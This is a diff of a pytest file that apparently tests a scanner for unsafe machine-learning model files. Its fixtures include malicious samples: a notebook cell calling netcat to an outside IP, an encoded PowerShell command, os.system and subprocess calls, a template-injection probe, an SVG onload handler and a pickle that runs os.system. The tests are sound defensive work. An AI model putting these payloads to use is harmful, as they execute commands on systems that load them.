@@ -96,6 +96,13 @@ ACTING = {
     ],
     "run.bat": ["@echo off\npowershell -enc SQBFAFgA\n"],
     "train.ipynb": [notebook("import keras", "!nc 203.0.113.9 4444"), notebook("%%bash\nid")],
+    "load.py": [
+        "from os import system as run\nrun('id')\n",
+        "import subprocess as s\ns.Popen(['nc'])\n",
+        "import importlib\nimportlib.import_module('sub' + 'process')\n",
+    ],
+    "chat_template.jinja": ["{{ ''.__class__.__mro__ }}"],
+    "logo.svg": ["<svg onload='fetch(1)' xmlns='http://www.w3.org/2000/svg'/>"],
     "main.js": ["require('child_process').exec('id')"],
     "numpy.py": ["x = 1\n"],
     "sitecustomize.py": ["x = 1\n"],
@@ -197,3 +204,64 @@ def test_a_path_in_a_graph_counts_where_an_operation_opens_it(graph: bytes, flag
     (tmp_path / "frozen.pb").write_bytes(graph)
     told = [risk.seen for risk in anykeras.audit(tmp_path / "frozen.pb").risks if risk.code == "AK8006"]
     assert (flagged in told[0]) if flagged else not told
+
+
+def call(module: str, name: str) -> bytes:
+    return b"c" + module.encode() + b"\n" + name.encode() + b"\n)R"
+
+
+FITTED = {
+    "sklearn.preprocessing._data": "StandardScaler",
+    "sklearn.tree._tree": "Tree",
+    "keras_preprocessing.text": "Tokenizer",
+    "keras.src.legacy.preprocessing.text": "Tokenizer",
+    "pandas.core.frame": "DataFrame",
+    "scipy.sparse._csr": "csr_matrix",
+    "numpy.random._pcg64": "PCG64",
+}
+NOT_FITTED = {
+    "sklearn.datasets": "load_files",
+    "sklearn.externals.joblib": "load",
+    "sklearn.preprocessing._data": "scale",
+    "pandas": "HDFStore",
+    "pandas.io.pickle": "read_pickle",
+    "keras_preprocessing.text": "tokenizer_from_json",
+}
+
+
+@pytest.mark.parametrize(("module", "name"), FITTED.items())
+def test_pickles_of_what_was_fitted_are_not_flagged(module: str, name: str, tmp_path: Path) -> None:
+    (tmp_path / "a.pkl").write_bytes(b"\x80\x02" + call(module, name) + b".")
+    assert not explain(anykeras.audit(tmp_path / "a.pkl"))
+
+
+@pytest.mark.parametrize(("module", "name"), NOT_FITTED.items())
+def test_functions_of_the_same_libraries_are_flagged(module: str, name: str, tmp_path: Path) -> None:
+    (tmp_path / "a.pkl").write_bytes(b"\x80\x02" + call(module, name) + b".")
+    assert explain(anykeras.audit(tmp_path / "a.pkl"))
+
+
+WRAPPER = (
+    b"\x80\x02cjoblib.numpy_pickle\nNumpyArrayWrapper\n)\x81}(X\5\0\0\0shapeK\2\x85"
+    b"X\5\0\0\0dtypecnumpy\ndtype\nX\2\0\0\0%bK\0K\1\x87Rub"
+)
+
+
+@pytest.mark.parametrize(
+    ("kind", "values", "flagged"),
+    [
+        (b"O8", b"\x80\x02]q\0(K\1K\2e.", False),
+        (b"O8", b"\x80\x02cos\nsystem\nX\2\0\0\0id\x85R.", True),
+        (b"U4", bytes(32), False),
+        (b"V8", bytes(16), False),
+    ],
+)
+def test_arrays_of_joblib_that_hold_objects_or_texts(kind: bytes, values: bytes, flagged: bool, tmp_path: Path) -> None:
+    (tmp_path / "a.joblib").write_bytes(WRAPPER % kind + values + b".")
+    assert bool(explain(anykeras.audit(tmp_path / "a.joblib"))) is flagged
+
+
+def test_operations_of_ones_own_are_trusted(tmp_path: Path) -> None:
+    (tmp_path / "frozen.pb").write_bytes(operation("a", "MyOps>Sort") + operation("b", "ReadFile"))
+    assert len(explain(anykeras.audit(tmp_path / "frozen.pb"))) == 2
+    assert len(explain(anykeras.audit(tmp_path / "frozen.pb", trust=["MyOps>*"]))) == 1
